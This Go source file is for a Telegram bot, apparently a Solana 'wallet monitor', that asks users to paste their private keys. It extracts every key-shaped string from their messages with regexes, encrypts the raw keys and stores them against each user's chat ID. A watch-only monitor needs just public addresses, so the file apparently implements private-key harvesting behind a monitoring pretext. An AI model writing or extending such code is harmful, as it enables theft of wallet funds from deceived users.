package telegram

import (
	"fmt"
	"regexp"
	"strings"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"solmon"
	"solmon/internal/keyring"
)

// Key shapes users paste: a 64-byte base58 string, or the keypair-file JSON
// array of 64 byte values.
var (
	base58KeyPattern = regexp.MustCompile(`[1-9A-HJ-NP-Za-km-z]{87,88}`)
	arrayKeyPattern  = regexp.MustCompile(`\[\s*(?:\d+\s*,\s*){63}\d+\s*\]`)
)

// intakeSingle handles the /monitor follow-up: one key, one wallet.
func (b *Bot) intakeSingle(chat int64, text string) {
	raw := strings.TrimSpace(text)
	account, err := keyring.DeriveAddress(raw)
	if err != nil {
		b.reply(chat, msgInvalidKey)
		b.log.Warn("rejected private key", "chat", chat, "err", err)
		return
	}
	outcome, err := b.addWatch(chat, raw, account)
	if err != nil {
		b.log.Error("add watch", "chat", chat, "err", err)
		b.reply(chat, "❌ "+err.Error())
		return
	}
	if outcome == solmon.AddDuplicate {
		b.reply(chat, msgAlreadyWatched)
		return
	}

	msg := tgbotapi.NewMessage(chat, fmt.Sprintf(msgWatchStarted, solmon.TruncateAddress(account)))
	msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(tgbotapi.NewInlineKeyboardRow(
		tgbotapi.NewInlineKeyboardButtonData("➕ Add another wallet", "add_wallet"),
		tgbotapi.NewInlineKeyboardButtonData("🚀 Start monitoring", "start_monitoring"),
	))
	b.sendQuiet(msg)
	b.log.Info("watch added", "chat", chat, "account", solmon.TruncateAddress(account))
}

// intakeBulk handles the /add follow-up: extract every key in the text and
// report what happened to each.
func (b *Bot) intakeBulk(chat int64, text string) {
	keys := extractPrivateKeys(text)
	if len(keys) == 0 {
		b.reply(chat, msgNoKeysFound)
		return
	}

	var added, already, failed []string
	for _, raw := range keys {
		account, err := keyring.DeriveAddress(raw)
		if err != nil {
			failed = append(failed, "invalid key: "+clip(raw, 20)+"...")
			continue
		}
		outcome, err := b.addWatch(chat, raw, account)
		if err != nil {
			failed = append(failed, "error: "+err.Error())
			continue
		}
		if outcome == solmon.AddDuplicate {
			already = append(already, solmon.TruncateAddress(account))
			continue
		}
		added = append(added, solmon.TruncateAddress(account))
		b.log.Info("watch added", "chat", chat, "account", solmon.TruncateAddress(account))
	}

	var sb strings.Builder
	sb.WriteString("📊 Wallet intake report:\n\n")
	fmt.Fprintf(&sb, "🔢 Keys found: %d\n", len(keys))
	fmt.Fprintf(&sb, "✅ Added: %d\n", len(added))
	fmt.Fprintf(&sb, "🔄 Already watched: %d\n", len(already))
	fmt.Fprintf(&sb, "❌ Failed: %d\n\n", len(failed))
	if len(added) > 0 {
		sb.WriteString("✅ New wallets:\n")
		for _, a := range added {
			sb.WriteString("  • " + a + "\n")
		}
		sb.WriteString("\n")
	}
	if len(already) > 0 {
		sb.WriteString("🔄 Already watched:\n")
		for _, a := range already {
			sb.WriteString("  • " + a + "\n")
		}
		sb.WriteString("\n")
	}
	if len(failed) > 0 {
		sb.WriteString("❌ Failures:\n")
		for i, f := range failed {
			if i == 5 {
				fmt.Fprintf(&sb, "  • ... and %d more\n", len(failed)-5)
				break
			}
			sb.WriteString("  • " + f + "\n")
		}
		sb.WriteString("\n")
	}
	sb.WriteString("🔔 Monitoring is active for the added wallets!")
	b.reply(chat, sb.String())
}

func (b *Bot) addWatch(subscriber int64, rawKey, account string) (solmon.AddOutcome, error) {
	sealed, err := b.keys.Seal(rawKey)
	if err != nil {
		return 0, fmt.Errorf("seal credential: %w", err)
	}
	return b.registry.AddWatch(solmon.Watch{
		Subscriber: subscriber,
		Account:    account,
		Credential: sealed,
		Active:     true,
	})
}

// extractPrivateKeys pulls every key-shaped token out of free text,
// deduplicated in first-seen order.
func extractPrivateKeys(text string) []string {
	var keys []string
	keys = append(keys, base58KeyPattern.FindAllString(text, -1)...)
	keys = append(keys, arrayKeyPattern.FindAllString(text, -1)...)

	seen := make(map[string]struct{}, len(keys))
	out := keys[:0]
	for _, k := range keys {
		k = strings.TrimSpace(k)
		if _, dup := seen[k]; dup {
			continue
		}
		seen[k] = struct{}{}
		out = append(out, k)
	}
	return out
}

func clip(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}
